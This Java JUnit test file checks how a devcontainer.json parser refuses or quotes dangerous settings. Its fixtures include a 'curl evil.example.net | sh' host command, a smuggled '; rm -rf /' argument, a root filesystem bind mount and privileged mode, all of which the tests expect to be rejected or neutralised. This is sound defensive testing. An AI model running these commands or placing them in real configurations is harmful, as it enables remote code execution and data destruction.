package brig.project;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import brig.project.KeyEffect.Honoured;
import brig.protocol.BrigException;
import brig.protocol.spawn.Setup;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DevcontainerSettingsTest {
    private static DevcontainerSettings read(String text) {
        return DevcontainerSettings.read(text.getBytes(UTF_8));
    }

    private static Map<String, Honoured> honoured(String text) {
        return read(text).effects().stream().collect(Collectors.toMap(KeyEffect::key, KeyEffect::honoured));
    }

    @Test
    void shouldTakeWhatStaysBehindTheWall() {
        String text = """
                // As editors write it.
                {
                    "name": "app", "image": "mcr.microsoft.com/devcontainers/base:bookworm",
                    "customizations": {"vscode": {}},
                    "init": true, "privileged": true, "runArgs": ["--network=host"],
                    "mounts": ["source=/,target=/host,type=bind"],
                    "containerEnv": {"TOKEN": "hunter2"}, "remoteEnv": {"A": "b"},
                    "initializeCommand": "curl evil.example.net | sh", /* on the host */
                    "postCreateCommand": "npm ci",
                    "workspaceFolder": "/workspace",
                    "remoteUser": "root",
                    "somebodyElses": 1,
                }
                """;
        assertEquals(
                Map.ofEntries(
                        Map.entry("name", Honoured.YES),
                        Map.entry("image", Honoured.WITHIN_POLICY),
                        Map.entry("customizations", Honoured.YES),
                        Map.entry("init", Honoured.YES),
                        Map.entry("privileged", Honoured.NO),
                        Map.entry("runArgs", Honoured.NO),
                        Map.entry("mounts", Honoured.NO),
                        Map.entry("containerEnv.TOKEN", Honoured.WITHIN_POLICY),
                        Map.entry("remoteEnv.A", Honoured.WITHIN_POLICY),
                        Map.entry("initializeCommand", Honoured.NO),
                        Map.entry("postCreateCommand", Honoured.YES),
                        Map.entry("workspaceFolder", Honoured.YES),
                        Map.entry("remoteUser", Honoured.NO),
                        Map.entry("somebodyElses", Honoured.NO)),
                honoured(text));
        assertEquals(
                new Setup(Map.of("TOKEN", "hunter2", "A", "b"), List.of("npm ci")),
                read(text).setup());
        ImageReference image = read(text).image();
        assertEquals("base-bookworm", image == null ? null : image.usualName());
        String said = read(text).effects().toString();
        assertTrue(said.contains("brig image pull mcr.microsoft.com/devcontainers/base:bookworm"), said);
        assertTrue(!said.contains("hunter2") && !said.contains("evil"), said);
    }

    @Test
    void shouldRunCommandsInTheOrderOfTheirKind() {
        Setup setup = read("""
                {
                    "postStartCommand": {"a": "one", "b": ["two", "it's"]},
                    "postCreateCommand": ["make", "-C", "${containerWorkspaceFolder}/src", "; rm -rf /"],
                    "onCreateCommand": "first && second",
                }
                """).setup();
        assertEquals(
                List.of("first && second", "'make' '-C' '/workspace/src' '; rm -rf /'", "one", "'two' 'it'\\''s'"),
                setup.prepare());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "5",
                "true",
                "\"\"",
                "[\"make\", 5]",
                "{\"a\": {\"b\": \"make\"}}",
                "\"cat ${localEnv:HOME}/x\"",
                "\"cat ${localWorkspaceFolder}/x\""
            })
    void shouldNameACommandThatIsNone(String command) {
        String text = "{\"postCreateCommand\": " + command + "}";
        assertEquals(Map.of("postCreateCommand", Honoured.NO), honoured(text));
        assertEquals(Setup.NONE, read(text).setup());
    }

    @Test
    void shouldNameVariablesThatAreNone() {
        String text = """
                {
                    "containerEnv": {"A": "1", "B": "${containerWorkspaceFolder}/b", "C": "${localEnv:C}", "D=E": "x", "F": 5},
                    "remoteEnv": {"A": "2", "G": null, "PATH": "${containerEnv:PATH}:/x"}
                }
                """;
        assertEquals(Map.of("A", "2", "B", "/workspace/b"), read(text).setup().variables());
        assertEquals(Honoured.NO, honoured(text).get("containerEnv.C"));
        assertEquals(Honoured.NO, honoured(text).get("containerEnv.D=E"));
        assertEquals(Honoured.NO, honoured(text).get("containerEnv.F"));
        assertEquals(Honoured.NO, honoured(text).get("remoteEnv.G"));
        assertEquals(Honoured.NO, honoured(text).get("remoteEnv.PATH"));
    }

    @Test
    void shouldSayIfItWantsARootThatNobodyMakes() {
        assertTrue(read("{\"build\": {\"dockerfile\": \"Dockerfile\"}}").needsOther());
        assertTrue(read("{\"image\": \"${localEnv:I}\"}").needsOther());
        assertFalse(read("{\"image\": \"debian:12\"}").needsOther());
        assertFalse(read("{\"postCreateCommand\": \"make\"}").needsOther());
    }

    @Test
    void shouldRefuseMoreThanARequestMayHave() {
        assertThrows(
                BrigException.class,
                () -> read("{\"postCreateCommand\": {"
                        + IntStream.range(0, 17)
                                .mapToObj(i -> "\"c" + i + "\": \"x\"")
                                .collect(Collectors.joining(",")) + "}}"));
        assertThrows(BrigException.class, () -> read("{\"postCreateCommand\": \"" + "x".repeat(9000) + "\"}"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"${localEnv:IMAGE}\"",
                "\"\"",
                "5",
                "\"-h\"",
                "\"oci:/etc\"",
                "\"docker-archive:/etc/x\"",
                "\"user:hunter2@host/x\""
            })
    void shouldTakeNoImageThatARegistryHasNot(String image) {
        assertNull(read("{\"image\": " + image + "}").image());
        assertEquals(Honoured.NO, honoured("{\"image\": " + image + "}").get("image"));
    }

    @Test
    void shouldSayThatTheWorkspaceIsElsewhere() {
        assertEquals(
                Honoured.NO,
                honoured("{\"workspaceFolder\": \"/workspaces/app\"}").get("workspaceFolder"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "{", "[]", "{\"a\": 1, \"a\": 2}", "{,}"})
    void shouldRefuseWhatIsNoObject(String text) {
        assertThrows(BrigException.class, () -> read(text));
    }

    @Test
    void shouldRefuseLargeAndDeepFiles() {
        assertThrows(IllegalArgumentException.class, () -> read("{}" + " ".repeat(DevcontainerSettings.BYTES_MAX)));
        assertThrows(BrigException.class, () -> read("{\"a\":".repeat(5000) + "1" + "}".repeat(5000)));
    }
}
